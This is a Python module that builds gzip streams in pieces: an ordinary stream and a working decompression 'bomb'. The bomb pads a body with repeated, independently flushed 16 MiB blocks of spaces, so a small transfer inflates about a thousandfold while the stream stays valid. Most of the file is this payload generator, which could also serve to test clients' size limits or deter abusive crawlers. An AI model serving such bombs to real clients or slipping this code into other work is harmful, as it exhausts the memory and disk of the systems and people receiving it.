"""Gzip streams made piece by piece: an ordinary one, and a bomb."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Iterable, Iterator
from itertools import chain, repeat
from typing import Final

_HEADER: Final = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"
# 16 MiB of white space are 16 kB on the wire.
_SPACES: Final = b" " * (1 << 24)


def compressed(pieces: Iterable[bytes]) -> Iterator[bytes]:
    """Return the gzip stream of some bytes."""
    squeeze = zlib.compressobj(wbits=31)
    for piece in pieces:
        yield squeeze.compress(piece)
    yield squeeze.flush()


def bomb(pieces: Iterable[bytes], size: int) -> Iterator[bytes]:
    """Return the gzip stream of a body that ends in much white space.

    It is a thousand times smaller than what it decodes to, and valid to its last byte: a client
    without a limit reads a good body in the end.

    Args:
        pieces: the body.
        size: bytes of white space, rounded up to 16 MiB.
    """
    # After a full flush nothing refers back, so the same bytes may be sent any number of times.
    plain_and_packed = chain(
        ((piece, _independent(piece)) for piece in pieces),
        repeat((_SPACES, _independent(_SPACES)), -(-size // len(_SPACES))),
    )
    checksum = total = 0
    yield _HEADER
    for plain, packed in plain_and_packed:
        checksum = zlib.crc32(plain, checksum)
        total += len(plain)
        yield packed
    yield zlib.compressobj(wbits=-15).flush() + struct.pack("<II", checksum, total & 0xFFFFFFFF)


def _independent(piece: bytes) -> bytes:
    squeeze = zlib.compressobj(wbits=-15)
    return squeeze.compress(piece) + squeeze.flush(zlib.Z_FULL_FLUSH)
